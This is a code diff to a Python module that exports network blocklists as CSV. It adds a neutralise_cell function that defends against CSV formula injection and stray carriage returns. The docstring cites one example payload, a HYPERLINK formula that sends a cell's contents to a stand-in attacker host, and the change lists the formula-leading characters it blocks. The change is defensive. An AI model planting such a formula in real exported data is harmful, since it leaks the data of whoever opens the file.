@@ -28,6 +28,17 @@ once) a new blocklist beside an old watchlist:
   fingerprint_id, confidence.
 
 ``min_confidence`` drops entries stated with less confidence from every file.
+
+The CSV files carry text partners wrote (producer names, actions, cluster
+keys). A spreadsheet opening them would run a cell such as
+``=HYPERLINK("https://evil.example/?"&A2,"details")`` as a formula, so every
+text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+return is written with a leading ``'`` (OWASP's CSV injection advice;
+``neutralise_cell``), and a carriage return inside a cell is written as a
+line feed (so the cell is quoted and cannot end the row early). Numbers
+stay numbers; no legitimate value of these
+columns (CIDRs, STIX ids, hashes, timestamps, the action vocabulary) starts
+with one of those characters.
 """
 
 from __future__ import annotations
@@ -125,12 +136,30 @@ def render_nftables(networks: Sequence, block_actions: Sequence[str]) -> bytes:
     return "".join(lines).encode()
 
 
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_cell(value: object) -> object:
+    """A CSV cell a spreadsheet will show as text: ``'`` before a formula-leading string.
+
+    A carriage return inside a cell also becomes a line feed: Python 3.11's
+    writer (line terminator ``\\n``) quotes a cell holding a line feed but not
+    one holding a bare carriage return, which CSV readers take as the end of
+    the row, so a partner could otherwise add rows of its own to the file.
+    """
+    if not isinstance(value, str):
+        return value
+    if value.startswith(_FORMULA_STARTS):
+        value = "'" + value
+    return value.replace("\r", "\n") if "\r" in value else value
+
+
 def _csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
     writer.writerow(header)
     for row in rows:
-        writer.writerow(["" if value is None else value for value in row])
+        writer.writerow(["" if value is None else neutralise_cell(value) for value in row])
     return buffer.getvalue().encode()
 
 
